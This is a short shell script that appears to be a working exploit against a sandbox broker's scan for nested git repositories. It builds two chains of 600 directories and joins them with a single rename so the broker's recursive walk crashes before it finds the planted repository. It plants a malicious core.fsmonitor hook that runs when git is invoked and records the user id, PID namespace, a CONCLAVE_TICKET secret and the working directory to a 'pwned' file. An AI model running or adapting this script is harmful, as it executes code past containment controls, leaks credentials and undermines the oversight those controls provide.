# Make the sweep itself fail: a chain of 1100 nested directories makes the broker's recursive walk
# (nested_repositories) raise RecursionError.  Plant sub/.git (core.fsmonitor) first, then complete the
# chain with ONE rename (two halves built apart, each short enough), so no sweep sees the repository alone.
set -u
cd "$(git rev-parse --show-toplevel)"; T=$(pwd); OUT=$1
mk() { d=$1; n=$2; mkdir "$d"; cd "$d"; i=0; while [ $i -lt $n ]; do mkdir d; cd d; i=$((i+1)); done; pwd > "$T/.last"; cd "$T"; }
mk deep 600; mk tail 600
git init -q sub
P="$T/sub/.git/fsmon"
printf '#!/bin/sh\necho "ran as $(id -u) pidns=$(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd)" >> %s/pwned\nexit 1\n' "$OUT" > "$P"; chmod +x "$P"
git -C sub config core.fsmonitor "$P"
END=$(cd deep; i=0; while [ $i -lt 600 ]; do cd d; i=$((i+1)); done; pwd)
mv tail "$END/"
rm -f .last
echo planted
sleep 4
echo still alive
